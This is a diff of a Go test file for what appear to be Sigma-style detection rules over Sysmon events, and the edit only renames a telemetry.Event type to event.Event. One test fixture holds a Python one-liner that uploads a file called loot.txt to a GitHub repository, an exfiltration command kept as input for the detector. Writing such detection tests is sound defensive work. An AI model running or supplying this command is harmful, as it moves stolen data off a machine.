@@ -3,6 +3,7 @@ package sigma
 import (
 	"context"
 	"errors"
+	"github.com/t1567001/harness/event"
 	"os"
 	"path/filepath"
 	"strings"
@@ -10,8 +11,6 @@ import (
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
-
-	"github.com/t1567001/harness/telemetry"
 )
 
 func TestOwnRuleMetadata(t *testing.T) {
@@ -38,7 +37,7 @@ func TestOwnRule(t *testing.T) {
 	pythonPut := `python.exe -c "import requests; requests.put('https://api.github.com/repos/x/y/contents/loot.txt', data=open('loot.txt').read())"`
 	tests := []struct {
 		name  string
-		ev    telemetry.Event
+		ev    event.Event
 		fires bool
 		// explain: substrings of the explanation of rule ("net" or "proc").
 		rule    string
@@ -224,7 +223,7 @@ func TestApplies(t *testing.T) {
 		require.NoError(t, err, ls)
 		return r
 	}
-	evs := map[string]telemetry.Event{
+	evs := map[string]event.Event{
 		"sysmon1":  procCreate(workstation, gitExe, "git", cmdExe),
 		"sysmon3":  netConnect(workstation, gitExe, "github.com"),
 		"sysmon11": sysmonEvent(11, workstation, "Image", gitExe),
